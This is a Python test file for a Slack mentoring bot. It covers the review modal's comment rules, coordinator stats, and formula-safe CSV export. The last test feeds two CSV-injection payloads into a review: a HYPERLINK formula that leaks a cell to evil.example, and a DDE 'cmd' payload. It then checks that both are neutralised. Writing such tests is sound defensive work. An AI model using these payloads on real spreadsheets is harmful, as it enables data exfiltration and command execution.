"""The review's comment rules as people meet them: the modal states them, submit enforces them,
and every comment they ask for reaches the coordinators' stats and digest."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta

import pytest

from bot.blocks.followup import CONNECTION_COMMENT_LABEL, PROGRAM_COMMENT_LABEL
from bot.sandbox import Sandbox, sandbox
from bot.simulator.render import render_blocks
from tests.conftest import BEN, CHITRA, START, make_fake_slack
from tests.steps import CONNECTING, PROGRAM, STAR, approved_session, check_in


@pytest.fixture
def program(database_url: str) -> Iterator[Sandbox]:
    """Chitra coordinates."""
    env = {"COORDINATOR_USER_IDS": CHITRA}
    with sandbox(database_url, now=START, env=env, fake=make_fake_slack()) as running:
        yield running
        assert running.fake.problems == []


def comment_inputs(box: Sandbox) -> dict[str, tuple[bool, str]]:
    """Each comment input of Ben's open modal: its label, whether Slack marks it "(optional)",
    and its hint, as he reads them."""
    modal = box.fake.modal(BEN)
    assert modal is not None
    return {
        block["label"]["text"]: (block.get("optional", False), block["hint"]["text"])
        for block in modal["blocks"]
        if block.get("type") == "input" and block["label"]["text"].startswith("Comment")
    }


CONNECTION_HINT = "What didn't work? Required below 3 stars; optional otherwise."
PROGRAM_HINT = "What would make it better? Required at 3 stars or fewer; optional otherwise."


def test_the_modal_says_which_rule_applies_and_label_and_hint_agree(program: Sandbox) -> None:
    """Ben opens the review: both comments are optional and their hints say when they are
    not. Picking 2 and 3 stars turns both into required inputs whose labels name the rule
    (no "(optional)" any more); 4 stars for connecting makes that one optional again. The
    refusal on submit quotes the same rule."""
    approved_session(program)
    check_in(program)
    ben = program.user(BEN)
    ben.click("Yes")
    assert comment_inputs(program) == {
        "Comment on connecting": (True, CONNECTION_HINT),
        "Comment on the program": (True, PROGRAM_HINT),
    }
    ben.fill(CONNECTING, STAR[2])
    ben.fill(PROGRAM, STAR[3])
    assert comment_inputs(program) == {
        "Comment on connecting (required below 3 stars)": (False, CONNECTION_HINT),
        "Comment on the program (required at 3 stars or fewer)": (False, PROGRAM_HINT),
    }
    shown = render_blocks(program.fake.modal(BEN)["blocks"], "UTC")  # type: ignore[index]
    assert "stars) (optional)" not in shown and "fewer) (optional)" not in shown
    errors = ben.submit().errors
    assert "required below 3 stars" in errors[CONNECTION_COMMENT_LABEL]
    assert "required at 3 stars or fewer" in errors[PROGRAM_COMMENT_LABEL]
    ben.fill(CONNECTING, STAR[4])
    assert comment_inputs(program) == {
        "Comment on connecting": (True, CONNECTION_HINT),
        "Comment on the program (required at 3 stars or fewer)": (False, PROGRAM_HINT),
    }


def test_a_program_comment_at_three_stars_reaches_the_coordinators(program: Sandbox) -> None:
    """Ben enjoyed connecting (4 stars) but gives the program 3 stars, with the comment the rule
    asks for: Chitra's stats list it under Low ratings, so it is not lost in the CSV."""
    approved_session(program)
    check_in(program)
    ben = program.user(BEN)
    ben.click("Yes")
    ben.fill(CONNECTING, STAR[4])
    ben.fill(PROGRAM, STAR[3])
    assert set(ben.submit().errors) == {PROGRAM_COMMENT_LABEL}
    ben.fill(PROGRAM_COMMENT_LABEL, "Finding a free slot took three weeks.")
    assert ben.submit().errors == {}
    program.clock.advance(timedelta(minutes=5))
    program.user(CHITRA).command("admin stats 30d")
    stats = [s for s in program.fake.seen_by(CHITRA) if s.kind != "file"][-1]  # not the charts
    shown = render_blocks(stats.blocks, "UTC")
    assert "Low ratings" in shown
    assert "4★ connecting, 3★ program" in shown
    assert "Finding a free slot took three weeks." in shown


def test_a_formula_in_a_review_is_inert_in_the_coordinators_export(program: Sandbox) -> None:
    """Ben types spreadsheet formulas into his review, one after a `;`; Chitra's CSV export,
    received by DM, has them quoted and apostrophe-prefixed, with what he typed kept."""
    approved_session(program)
    check_in(program)
    ben = program.user(BEN)
    ben.click("Yes")
    ben.fill(CONNECTING, STAR[2])
    ben.fill(PROGRAM, STAR[5])
    attack = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    ben.fill(CONNECTION_COMMENT_LABEL, attack)
    ben.fill("3. Anything else?", "all fine;=cmd|' /C calc'!A0")
    assert ben.submit().errors == {}
    program.clock.advance(timedelta(minutes=5))
    program.user(CHITRA).command("admin export 7d")
    (reviews,) = [
        s.file for s in program.fake.seen_by(CHITRA) if s.kind == "file" and s.file
        and s.file["name"].startswith("mentor-reviews")
    ]  # fmt: skip
    raw = reviews["content"]
    text = (raw if isinstance(raw, bytes) else raw.encode("latin-1")).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["connection_comment"] == "'" + attack
    assert row["feedback"] == "'all fine;=cmd|' /C calc'!A0"
    assert f'"\'{attack.replace(chr(34), chr(34) * 2)}"' in text  # quoted as one cell
